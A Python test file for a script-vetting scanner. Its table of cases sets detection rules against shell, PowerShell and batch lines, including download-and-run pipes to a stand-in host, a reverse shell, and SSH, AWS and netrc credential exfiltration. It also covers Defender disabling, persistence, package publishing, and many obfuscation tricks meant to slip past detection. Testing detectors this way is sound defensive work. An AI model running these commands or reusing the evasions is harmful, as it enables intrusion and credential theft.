"""What the rules about code see in shell, PowerShell and batch scripts, which are read line by line."""

from typing import Final

import pytest

from tests.vetting.domain.signals.code.cases import Case
from tests.vetting.domain.signals.code.judging import BY_ID, half_tried, judge
from tests.vetting.domain.signals.looking import found, side
from vetting.domain.signals.capabilities import capabilities_in
from vetting.domain.signals.interface import FileUnderScan, Severity
from vetting.domain.signals.scan import scan

FROM: Final = "https://x.example.test/a"
HIDDEN: Final = "Y3VybCBodHRwczovL3guZXhhbXBsZS50ZXN0L2EgfCBzaA=="
"""Base64 of a download that is run."""
SH, PS1, BAT = "bin/run.sh", "bin/run.ps1", "bin/run.bat"
RUN: Final = "HKCU:\\Software\\Microsoft\\Windows\\CurrentVersion\\Run"
FETCH: Final = f"(New-Object Net.WebClient).DownloadFile('{FROM}', 'C:\\t\\x.exe')"

CASES: Final = (
    Case("C1", "hit", "high", 'base64 -d < "$1" | sh\n', SH),
    Case("C1", "hit", "high", "iex ([Text.Encoding]::UTF8.GetString([Convert]::FromBase64String($a)))\n", PS1),
    Case("C1", "twin", None, 'base64 -d < "$1" > logo.png\nsh build.sh\nbase64 "$1" | sh -x build.sh\n', SH),
    Case("C1", "evasion", "high", 'X=$(openssl base64 -d < "$1")\nY=1\neval "$X"\n', SH),
    Case("C1", "evasion", "high", 'b"as"e64 --decode "$1" > /tmp/n\nchmod +x /tmp/n\n. /tmp/n\n', SH),
    Case("C2", "hit", "high", f"echo {HIDDEN} | base64 -d | sh\n", SH),
    Case("C2", "hit", "high", f"iex ([Text.Encoding]::UTF8.GetString([Convert]::FromBase64String('{HIDDEN}')))\n", PS1),
    Case("C2", "hit", "medium", f"X=$(base64 -d <<< {HIDDEN})\n", SH),
    Case("C2", "twin", None, "echo aGVsbG8= | base64 -d\necho hi | rev\necho hi | base64 -d | sh -c cat\n", SH),
    Case("C2", "evasion", "high", f"A={HIDDEN[:9]}\nB={HIDDEN[9:]}\necho -n $A${{B}} | base64 -d | ba''sh\n", SH),
    Case("C2", "evasion", "high", "echo 'hs | a/tset.elpmaxe.x//:sptth lruc' | rev | bash -s -- x\n", SH),
    Case("C2", "evasion", "high", "rev x | base64 -d | $SHELL; rev x | base64 -d | sh\n", SH),
    Case("C3", "hit", "high", f"curl -fsSL {FROM} | sudo -E bash -\n", SH),
    Case("C3", "hit", "high", f'sh -c "$(wget -qO- {FROM})"\n', SH),
    Case("C3", "hit", "high", "bash -i >& /dev/tcp/192.0.2.1/4444 0>&1\n", SH),
    Case("C3", "hit", "high", f"iwr {FROM} | iex\n", PS1),
    Case("C3", "hit", "high", f"certutil -urlcache -split -f {FROM} x.exe\r\nstart /wait x.exe\r\n", BAT),
    Case("C3", "twin", None, f"curl -O {FROM}/x.tar.gz\ntar xf x.tar.gz && make 2>&1\n# curl {FROM} | sh\n", SH),
    Case("C3", "twin", None, f"Write-Host 'hi' # iwr {FROM} | iex\nInvoke-WebRequest {FROM} -OutFile x.zip\n", PS1),
    Case("C3", "twin", None, f"rem curl {FROM} | sh\r\n:: curl {FROM} | sh\r\npython setup.py > log 2>&1\r\n", BAT),
    Case("C3", "evasion", "high", f"curl -sSLo /tmp/x {FROM} && chmod +x /tmp/x\n/tmp/x --now\n", SH),
    Case("C3", "evasion", "high", f"a=cur\nb=l\n$a$b {FROM} \\\n | s\\h\n", SH),
    Case("C3", "evasion", "high", f"x='\n' ; X=`curl$IFS{FROM}`; eval \"$X\"\n", SH),
    Case("C3", "evasion", "high", f"bash <(wget --output-document=- {FROM})\n", SH),
    Case("C3", "evasion", "high", f"$x = i`w`r {FROM}\ni`e`x $x\n", PS1),
    Case("C3", "evasion", "high", f"$x=(iwr {FROM})\niex $x\n", PS1),
    Case("C3", "evasion", "high", f"$x+= iwr {FROM};iex $x\n", PS1),
    Case("C3", "evasion", "high", f"<# a #> iwr <#\n#> {FROM} | iex\n", PS1),
    Case("C3", "evasion", "high", f"$a='<#'; iwr {FROM} | iex; $b='#>'\n", PS1),
    Case("C3", "twin", None, f"# don't\n<#\n.EXAMPLE\niwr {FROM} | iex\n#>\necho x\n", PS1),
    Case("C3", "evasion", "high", f"{FETCH}\nStart-Process C:\\t\\x.exe\n", PS1),
    Case("C3", "evasion", "high", f"set a=cu\r\nset b=rl\r\n%a%%b% {FROM} --output=x.exe & x^.exe\r\n", BAT),
    Case("C3", "evasion", "high", f"& ([scriptblock]::Create((i`wr {FROM})))\n", PS1),
    Case("C3", "evasion", "high", f'echo "\\\\"; curl -fsSL {FROM} -o q; chmod +x q; ./q; echo "x"\n', SH),
    Case("C3", "evasion", "high", f'echo "$(date)"; curl -fsSL {FROM} -o q; chmod +x q; ./q; echo "x"\n', SH),
    Case("C3", "evasion", "high", f'a="$(b "c)" \'"\')"; curl -fsSL {FROM} -o q; sh q; echo "x"\n', SH),
    Case("C3", "evasion", "high", f'echo "`a "b"`"; curl -fsSL {FROM} | sh; echo "x"\n', SH),
    Case("C3", "evasion", "high", f'echo "$(Get-Date)"; iwr {FROM} -o q.exe; q.exe; echo "x"\n', PS1),
    Case("C3", "evasion", "high", f'echo "``"; iwr {FROM} -o q.exe; q.exe; echo "x"\n', PS1),
    Case("C3", "evasion", "high", f'echo "a^" & curl {FROM} --output x.exe & x.exe & echo "b"\r\n', BAT),
    Case("C3", "evasion", "high", f'c=cur; $c"l" {FROM} | sh; "$c"l x\n', SH),
    Case("C3", "evasion", "high", f"curl {FROM} -A\\\\\\\n | sh\n", SH),
    Case("C3", "hit", "high", f"eval (curl -s {FROM})\n", "bin/run.fish"),
    Case("C3", "hit", "high", f"set x = curl\n$x {FROM} | sh\n", "bin/run.csh"),
    Case("C4", "hit", "high", f"cat ~/.ssh/id_rsa | curl -d @- {FROM}\n", SH),
    Case("C4", "twin", None, f"chmod 600 ~/.ssh/id_rsa\ncurl {FROM}\n".replace("curl", "echo"), SH),
    Case("C4", "evasion", "high", f"P=~/.ss\ntar c ${{P}}h/ ~/.aws/credentials ~/.npmrc | nc {FROM} 1\n", SH),
    Case("C4", "evasion", "medium", f"k=(~/.netrc)\nw'get' --post-file=$k {FROM}\n", SH),
    Case("C6", "hit", "high", "Set-MpPreference -DisableRealtimeMonitoring $true\n", PS1),
    Case("C6", "hit", "high", "powershell -w hidden -enc aQBkAA==\r\n", BAT),
    Case("C6", "hit", "medium", "nohup ./worker &\n", SH),
    Case("C6", "twin", None, "powershell -File build.ps1\r\nGet-MpPreference\r\nsc query WinDefend\r\n", BAT),
    Case("C6", "evasion", "high", "Po^wErShElL -eNc aQBkAA==\r\n", BAT),
    Case("C6", "evasion", "high", "Add-MpPref`erence -ExclusionPath C:\\\n", PS1),
    Case("C8", "hit", "high", '(crontab -l; echo "* * * * * /tmp/x") | crontab -\n', SH),
    Case("C8", "hit", "high", "reg add HKCU\\Software\\Microsoft\\Windows\\CurrentVersion\\Run /v x /d y\r\n", BAT),
    Case("C8", "hit", "high", f"Set-ItemProperty -Path {RUN} -Name x\n", PS1),
    Case("C8", "twin", None, "crontab -l\nsystemctl status x\ncat ~/.bashrc\n", SH),
    Case("C8", "evasion", "high", 'f=.bash\necho "/tmp/x &" >> "$HOME/${f}rc"\n', SH),
    Case("C8", "evasion", "high", "sudo env A=1 sys''temctl --user ena\\ble x.service\n", SH),
    Case("C9", "hit", "high", "npm publish --access public\n", SH),
    Case("C9", "twin", None, "npm install\ntwine check dist/*\n", SH),
    Case("C9", "evasion", "high", "p=pub\nnpm ${p}lish\n", SH),
    Case("C9", "evasion", "high", "python -m tw^ine up^load dist\\*\r\n", BAT),
    Case("C10", "hit", "medium", "curl https://webhook.site/x\n", SH),
    Case("C10", "hit", "low", f"wget -q {FROM} -O x\n", SH),
    Case("C10", "twin", None, "echo https://docs.example.test/\n", SH),
    Case("C10", "evasion", "medium", "h=webhook\nx=https://$h.site/x\ncurl $x\n", SH),
    Case("C10", "evasion", "medium", f"echo {HIDDEN} | base64 -d > x\n", SH),
    Case("C13", "hit", "medium", "cat > .claude/settings.json <<-EOF\n{}\nEOF\n", SH),
    Case("C13", "twin", None, "cat .claude/settings.json > /dev/null\n", SH),
    Case("C13", "evasion", "medium", "d=.clau\ncp x ${d}de/settings.json\n", SH),
    Case("C13", "evasion", "medium", "echo x | tee .vs'code'/tasks.json\n", SH),
)  # fmt: skip


@pytest.mark.parametrize("case", CASES, ids=lambda case: f"{case.rule}-{case.kind}")
def test_a_rule_sees_it_in_a_script_too(case: Case) -> None:
    """Each case of the table has the worst severity that stands beside it."""
    judge(case)


def test_each_is_tried_with_a_hit_a_twin_and_two_evasions() -> None:
    """No rule that reads scripts goes without."""
    assert half_tried(CASES, {case.rule for case in CASES}) == []


@pytest.mark.parametrize(
    ("path", "source", "says"),
    [
        ("a.pyx", f"import os, requests\nrequests.get('{FROM}')\nos.system('x')\n", {Severity.HIGH}),
        ("a.ts", f"fetch('{FROM}' as string)\nrequire('child_process').exec('x')\n", {Severity.HIGH}),
        ("a.py", f"import sh\nsh.python('setup.py', 'build')\nsh.curl('{FROM}')\n", set()),
    ],
)
def test_what_is_no_script_is_not_read_as_one(path: str, source: str, says: set[Severity]) -> None:
    """Neither what is read roughly as they are, nor Python that names a program as a module's function."""
    assert {one.severity for one in found(BY_ID["C3"], path, source.encode())} == says


def test_a_script_that_lies_there_is_no_reason_to_worry() -> None:
    """That it was read roughly matters only where it runs, and so does what it could do."""
    script = side(SH, f"curl -O {FROM}\n".encode())
    scanned = scan(FileUnderScan(None, script))
    assert ([one.rule for one in scanned.findings], scanned.unfinished) == (["C10"], None)
    assert capabilities_in(script) == {}
